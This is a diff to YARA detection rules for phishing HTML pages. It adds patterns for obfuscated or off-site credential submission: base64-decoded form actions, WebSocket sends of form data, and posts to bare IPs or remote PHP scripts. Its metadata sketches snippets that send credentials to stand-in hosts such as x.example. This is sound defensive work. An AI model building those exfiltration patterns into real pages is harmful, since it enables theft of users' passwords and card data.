@@ -121,6 +121,8 @@ private rule phishing_html__script_send
         $s4 = "sendBeacon(" ascii
         $s5 = /axios\.post\s{0,2}\(/
         $s6 = /new\s{1,3}Image\b/
+        /* train8: a socket the page opens (a live kit's operator channel) */
+        $s7 = /new\s{1,3}WebSocket\s{0,2}\(/
     condition:
         any of them
 }
@@ -135,6 +137,12 @@ private rule phishing_html__field_read
         $v4 = /new\s{1,4}FormData\s{0,2}\(/
         $v5 = ".serialize()" ascii
         $v6 = /\.elements\s{0,2}\)/
+        /* train8: a field by index or by name on the form or `this`
+         * (f[k[1]].value, this.pass.value, forms[0].pin.value), or each
+         * field of a list (inputs.map(i => i.value)) */
+        $v7 = /\]\s{0,2}\.value\b/
+        $v8 = /\b(this|form|frm|forms\s{0,2}\[\s{0,2}\d\s{0,2}\])\.\w{1,30}\.value\b/
+        $v9 = /=>\s{0,2}\w{1,12}\.value\b/
     condition:
         any of them
 }
@@ -150,8 +158,26 @@ private rule phishing_html__absolute_send
         $a4 = /\burl\s{0,2}:\s{0,2}["'](https?:)?\/\/[\w-]/
         $a5 = /sendBeacon\s{0,2}\(\s{0,2}["'](https?:)?\/\/[\w-]/
         $a6 = /\.src\s{0,2}=\s{0,2}["'](https?:)?\/\/[\w.-]{1,80}\/[^"'\n]{0,80}\?[^"'\n]{0,40}["']\s{0,2}\+/
+        /* train8: an address the page decodes from base64 before it
+         * sends (atob of "http...") */
+        $a8 = /\batob\s{0,2}\(\s{0,2}["']aHR0c/
     condition:
         any of them
+}
+
+/* train8: where the script sends is hidden or is a standing channel: an
+ * address decoded from base64 (nothing real hides where its own form
+ * goes), or a socket to a fixed host (a site's own chat builds its address
+ * from location.host; a vendor's chat sends one message box) that is
+ * given the whole form. */
+private rule phishing_html__hidden_or_socket_send
+{
+    strings:
+        $d = /\batob\s{0,2}\(\s{0,2}["']aHR0c/
+        $w = /new\s{1,3}WebSocket\s{0,2}\(\s{0,2}["']wss?:\/\/[\w-]/
+        $fd = /new\s{1,4}FormData\s{0,2}\(/
+    condition:
+        $d or ($w and $fd)
 }
 
 /* After sending, the visitor is moved to another site (a kit sends the
@@ -185,8 +211,8 @@ rule phishing_html_fields_beaconed_away : phishing
     meta:
         description = "Page with a credential field whose script sends the fields to an absolute address on another host and then moves the visitor to another site, or puts them in an image beacon's URL"
         severity = "high"
-        technique = "var q=..elements..; new XMLHttpRequest().open('POST','https://x.example/p.php'); x.send(q); location.href='https://www.brand.com/' / new Image().src='https://x/p.gif?'+q"
-        seen = "none"
+        technique = "var q=..elements..; new XMLHttpRequest().open('POST','https://x.example/p.php'); x.send(q); location.href='https://www.brand.com/' / new Image().src='https://x/p.gif?'+q / fetch(atob('aHR0cHM6..'), {body: seed}) / new WebSocket('wss://x:2053').send(FormData)"
+        seen = "none,train8"
         tuned_on = "phishgen2, heldout4"
     strings:
         /* an image whose URL carries the fields: nothing real puts what a
@@ -194,7 +220,9 @@ rule phishing_html_fields_beaconed_away : phishing
         $img = /\.src\s{0,2}=\s{0,2}["'](https?:)?\/\/[\w.-]{1,80}\/[^"'\n]{0,80}\?[^"'\n]{0,40}["']\s{0,2}\+\s{0,2}(btoa\s{0,2}\(\s{0,2})?(q|data|d|s|str|params|payload|body|info|f)\b/
     condition:
         filesize < 1MB and phishing_html__cred_field and phishing_html__field_read and phishing_html__script_send and
-        phishing_html__absolute_send and (phishing_html__away_redirect or $img) and not phishing_html__real_app and
+        (phishing_html__absolute_send or phishing_html__hidden_or_socket_send) and
+        (phishing_html__away_redirect or $img or phishing_html__hidden_or_socket_send) and
+        not phishing_html__real_app and
         not phishing_html__not_a_page
 }
 
@@ -240,6 +268,64 @@ rule phishing_html_credentials_sent_offsite : phishing
     condition:
         filesize < 1MB and phishing_html__cred_field and phishing_html__field_read and phishing_html__script_send and
         phishing_html__absolute_send and not phishing_html__real_app and
+        not phishing_html__not_a_page
+}
+
+/* ------------------------------------------------------------------------
+ * train8 (docs/rules.md, "The train8 round"): the sign-in page sent as a
+ * mail attachment or dropped in an uploads folder, whatever brand it
+ * claims. Its form posts the password straight to the collector: to an
+ * address the page decodes at submit time (this.action = atob(..), the
+ * form's action set from a decoded string), to a bare IP address, or to a
+ * PHP script on another host. A real login form names where it posts in
+ * its markup, posts to its own host or its identity provider, and is
+ * served under a name, not a number.
+ * ---------------------------------------------------------------------- */
+rule phishing_html_form_action_decoded : phishing
+{
+    meta:
+        description = "Page with a password or card field whose form's action is set by script from a decoded (base64, %XX, char-code) or reversed string"
+        severity = "high"
+        technique = "<form action=\"\" onsubmit=\"this.action=atob('aHR0cHM6Ly8..')\"> + password field / form.setAttribute('action', decodeURIComponent('%68%74..')) / f.action = 'php.p/x//:sptth'.split('').reverse().join('')"
+        seen = "train8"
+    strings:
+        $d1 = /\.action\s{0,2}=\s{0,2}(window\.)?(atob|unescape|decodeURIComponent|decodeURI|String\.fromCharCode)\s{0,2}\(/
+        $d2 = /setAttribute\s{0,2}\(\s{0,2}["']action["']\s{0,2},\s{0,2}(window\.)?(atob|unescape|decodeURIComponent|decodeURI|String\.fromCharCode)\s{0,2}\(/
+        $d3 = /\.action\s{0,2}=\s{0,2}["'][^"'\n]{4,200}["']\s{0,2}\.split\s{0,2}\(\s{0,2}["']{2}\s{0,2}\)\s{0,2}\.reverse\s{0,2}\(/
+    condition:
+        filesize < 1MB and any of ($d*) and phishing_html__cred_field and not phishing_html__real_app and
+        not phishing_html__not_a_page
+}
+
+rule phishing_html_password_form_to_ip : phishing
+{
+    meta:
+        description = "Page whose password or card form posts to a bare IP address"
+        severity = "high"
+        technique = "<form method=post action=\"https://203.0.113.7/x/y.php\"> + <input type=password>; a router's or NAS's own page posts to a relative path"
+        seen = "train8"
+    strings:
+        $ip = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']?(https?:)?\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[:\/"']/ nocase
+        /* private and loopback addresses: a LAN device's page */
+        $lan = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']?(https?:)?\/\/(10\.|127\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/ nocase
+    condition:
+        filesize < 1MB and $ip and #ip > #lan and phishing_html__cred_field and not phishing_html__real_app and
+        not phishing_html__not_a_page
+}
+
+rule phishing_html_password_form_offsite_script : phishing
+{
+    meta:
+        description = "Page whose password form posts to a PHP script on another host, whatever brand it claims (medium: a site may carry a login box for a members' area on another host)"
+        severity = "medium"
+        technique = "<form method=post action=\"https://other.example/dir/next.php\"> + <input type=password>, no CSRF token or template markup"
+        seen = "train8"
+    strings:
+        $o = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']https?:\/\/[^"'\/\s]{1,100}\/[^"'?#\s]{0,120}\.php["'?]/ nocase
+        /* this machine or the LAN: a local demo, a device's page */
+        $lan = /<form\b[^>]{0,300}\baction\s{0,2}=\s{0,2}["']https?:\/\/(localhost|127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/ nocase
+    condition:
+        filesize < 1MB and $o and #o > #lan and phishing_html__password_type and not phishing_html__real_app and
         not phishing_html__not_a_page
 }
 
